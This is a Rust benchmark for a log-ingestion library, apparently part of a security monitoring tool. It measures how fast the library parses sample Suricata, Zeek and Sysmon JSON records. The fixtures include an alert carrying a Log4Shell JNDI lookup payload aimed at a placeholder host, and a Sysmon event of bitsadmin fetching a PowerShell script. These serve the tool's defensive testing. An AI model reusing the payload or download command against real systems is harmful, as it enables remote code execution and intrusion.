//! EVE records per second: a mix of realistic alert, dns, http, tls, flow
//! and fileinfo lines (as Suricata 7 writes them), each parsed into the
//! normalised event. Target: at least 300,000 per second per core.
#![allow(missing_docs)]

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use garrison_core::Timestamp;
use garrison_ingest::{Context, suricata, windows, zeek};
use std::hint::black_box;

/// The binary's allocator (`crates/garrison/src/main.rs`): parsing
/// allocates a string per text value, so the allocator is part of the
/// figure.
#[global_allocator]
static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;

const EVE: &[&str] = &[
    r#"{"timestamp":"2024-03-14T09:26:53.589793+0000","flow_id":1245631827309123,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.77","src_port":44321,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:Qa82cl2bHpIRvy6bCKNJ8m5uFHc=","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":3,"signature":"ET EXPLOIT Apache log4j RCE Attempt - lower/upper TCP Bypass (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Apache_log4j"],"attack_target":["Server"],"created_at":["2021_12_10"],"cve":["CVE_2021_44228"],"deployment":["Perimeter","Internal"],"signature_severity":["Major"],"updated_at":["2021_12_14"]}},"http":{"hostname":"10.20.30.40","http_port":8080,"url":"/?x=${jndi:ldap://203.0.113.77:1389/a}","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":612},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":622,"bytes_toclient":1104,"start":"2024-03-14T09:26:53.512001+0000","src_ip":"203.0.113.77","dest_ip":"10.20.30.40","src_port":44321,"dest_port":8080}}"#,
    r#"{"timestamp":"2024-03-14T09:26:54.001234+0000","flow_id":1835273662719283,"in_iface":"eth0","event_type":"dns","src_ip":"10.20.30.41","src_port":53412,"dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","pkt_src":"wire/pcap","community_id":"1:dUmq3K0DHrBjSH8kMVXEjpDwmfQ=","dns":{"version":2,"type":"answer","id":48211,"flags":"8180","qr":true,"rd":true,"ra":true,"opcode":0,"rrname":"updates.example.com","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"updates.example.com","rrtype":"CNAME","ttl":300,"rdata":"cdn.example.net"},{"rrname":"cdn.example.net","rrtype":"A","ttl":60,"rdata":"198.51.100.23"}],"grouped":{"A":["198.51.100.23"],"CNAME":["cdn.example.net"]}}}"#,
    r#"{"timestamp":"2024-03-14T09:26:54.120456+0000","flow_id":998877665544332,"in_iface":"eth0","event_type":"http","src_ip":"10.20.30.42","src_port":51234,"dest_ip":"93.184.216.34","dest_port":80,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:LQU9qZlK+B5F3KDmev6m5PMibrg=","tx_id":0,"http":{"hostname":"www.example.com","url":"/downloads/setup.exe?ver=2.1.7","http_user_agent":"Microsoft-CryptoAPI/10.0","http_content_type":"application/octet-stream","http_refer":"http://www.example.com/downloads/","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":1843200}}"#,
    r#"{"timestamp":"2024-03-14T09:26:54.300789+0000","flow_id":1122334455667788,"in_iface":"eth0","event_type":"tls","src_ip":"10.20.30.43","src_port":60211,"dest_ip":"142.250.74.110","dest_port":443,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:gTh4u0yXb1y4P3mDkGm9fXUo5Mo=","tls":{"subject":"CN=*.google.com","issuerdn":"C=US, O=Google Trust Services, CN=WR2","serial":"0A:1B:2C:3D:4E:5F:60:71","fingerprint":"3f:6a:1e:4b:9c:88:12:aa:bb:cc:dd:ee:ff:00:11:22:33:44:55:66","sni":"www.google.com","version":"TLS 1.3","notbefore":"2024-02-19T08:04:45","notafter":"2024-05-13T08:04:44","ja3":{"hash":"cd08e31494f9531f560d64c695473da9","string":"771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-17513,29-23-24,0"},"ja3s":{"hash":"eb1d94daa7e0344597e756a1fb6e7054","string":"771,4865,51-43"}}}"#,
    r#"{"timestamp":"2024-03-14T09:27:59.000321+0000","flow_id":1245631827309123,"in_iface":"eth0","event_type":"flow","src_ip":"203.0.113.77","src_port":44321,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","app_proto":"http","community_id":"1:Qa82cl2bHpIRvy6bCKNJ8m5uFHc=","flow":{"pkts_toserver":6,"pkts_toclient":5,"bytes_toserver":842,"bytes_toclient":1504,"start":"2024-03-14T09:26:53.512001+0000","end":"2024-03-14T09:26:54.812001+0000","age":1,"state":"closed","reason":"timeout","alerted":true},"tcp":{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}}"#,
    r#"{"timestamp":"2024-03-14T09:26:55.410000+0000","flow_id":998877665544332,"in_iface":"eth0","event_type":"fileinfo","src_ip":"93.184.216.34","src_port":80,"dest_ip":"10.20.30.42","dest_port":51234,"proto":"TCP","pkt_src":"wire/pcap","http":{"hostname":"www.example.com","url":"/downloads/setup.exe?ver=2.1.7","http_user_agent":"Microsoft-CryptoAPI/10.0","http_content_type":"application/octet-stream","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":1843200},"app_proto":"http","fileinfo":{"filename":"/downloads/setup.exe","magic":"PE32 executable (GUI) Intel 80386, for MS Windows","gaps":false,"state":"CLOSED","md5":"44d88612fea8a8f36de82e1278abb02f","sha1":"3395856ce81f2b7382dee72602f798b642f14140","sha256":"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f","stored":false,"size":1843200,"tx_id":0}}"#,
];

const ZEEK: &str = r#"{"_path":"dns","_write_ts":"2018-03-24T17:15:20.866586Z","ts":"2018-03-24T17:15:20.865716Z","uid":"CqKst53mF3det3eDV9","id.orig_h":"10.47.1.100","id.orig_p":41772,"id.resp_h":"10.0.0.100","id.resp_p":53,"proto":"udp","trans_id":36329,"rtt":0.0008699893951416016,"query":"ise.wrccdc.org","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["ise.wrccdc.cpp.edu","134.71.3.16"],"TTLs":[2230.0,41830.0],"rejected":false}"#;

const NXLOG: &str = r#"{"@timestamp":"2020-09-22T18:10:10.004Z","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"EventTime":"2020-09-22 14:10:07","EventType":"INFO","Hostname":"WORKSTATION6.theshire.local","Keywords":-9223372036854775808,"Severity":"INFO","SeverityValue":2,"SourceName":"Microsoft-Windows-Sysmon","UtcTime":"2020-09-22 18:10:07.105","host":"wec.internal.cloudapp.net","ProcessGuid":"{39e4a257-3f9f-5f6a-5d0c-000000000600}","ProcessId":"6276","Image":"C:\\Windows\\System32\\bitsadmin.exe","CommandLine":"bitsadmin.exe /transfer /Download /priority Foreground https://example.org/a.ps1 C:\\Users\\Public\\a.ps1","CurrentDirectory":"C:\\Users\\pgustavo\\","User":"THESHIRE\\pgustavo","Hashes":"SHA1=A0DA3D4B8BDA3B5A0F0E6A8F0AD2C5B4C8F0B7D1,MD5=9C6C6B0F2C5F3A9D1E8B4C7D2A1F0E3B,SHA256=1D5B0C9E8F7A6B5C4D3E2F1A0B9C8D7E6F5A4B3C2D1E0F9A8B7C6D5E4F3A2B1C,IMPHASH=0F0E0D0C0B0A09080706050403020100","ParentProcessGuid":"{39e4a257-3f9e-5f6a-5c0c-000000000600}","ParentProcessId":"6232","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\""}"#;

fn bench(c: &mut Criterion) {
    let ctx = Context::at(Timestamp::from_millis(0));
    for line in EVE {
        assert!(
            suricata::parse(line, &ctx).is_ok(),
            "bench line must parse: {line}"
        );
    }
    let mut g = c.benchmark_group("parse_json");
    g.throughput(Throughput::Elements(EVE.len() as u64));
    g.bench_function("suricata_eve_mix", |b| {
        b.iter(|| {
            for line in EVE {
                let _ = black_box(suricata::parse(black_box(line), &ctx));
            }
        });
    });
    // The floor: reading the same lines into serde_json values only.
    g.bench_function("serde_json_value_only", |b| {
        b.iter(|| {
            for line in EVE {
                let _ = black_box(serde_json::from_str::<serde_json::Value>(black_box(line)));
            }
        });
    });
    g.throughput(Throughput::Elements(1));
    g.bench_function("zeek_dns", |b| {
        b.iter(|| black_box(zeek::parse(black_box(ZEEK), &ctx)))
    });
    g.bench_function("windows_nxlog_sysmon1", |b| {
        b.iter(|| black_box(windows::parse(black_box(NXLOG), &ctx)));
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
